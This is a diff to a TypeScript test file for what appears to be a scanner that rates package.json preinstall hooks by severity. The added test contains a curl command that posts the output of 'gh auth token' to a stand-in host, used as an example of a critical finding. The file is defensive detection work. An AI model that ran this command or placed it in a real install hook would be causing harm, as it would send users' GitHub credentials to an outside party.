@@ -70,3 +70,9 @@ test('a line that shows a text, or starts a program as a script could', () => {
     `node -e "process.stdout.write(await get('https://example.org'))"`,
   ]) assert.equal(worst(command), 'critical', command);
 });
+
+test('bad: a command that sends what another one tells', () => {
+  const worst = (command: string) => findingsOf(rule, { 'package.json': manifest({ preinstall: command }) })[0]?.severity;
+  assert.equal(worst('curl -s -d "$(gh auth token)" https://c.example/?t=gh'), 'critical');
+  assert.equal(worst('curl -s -d "v=$(node -v)" https://c.example/installed'), 'high');
+});
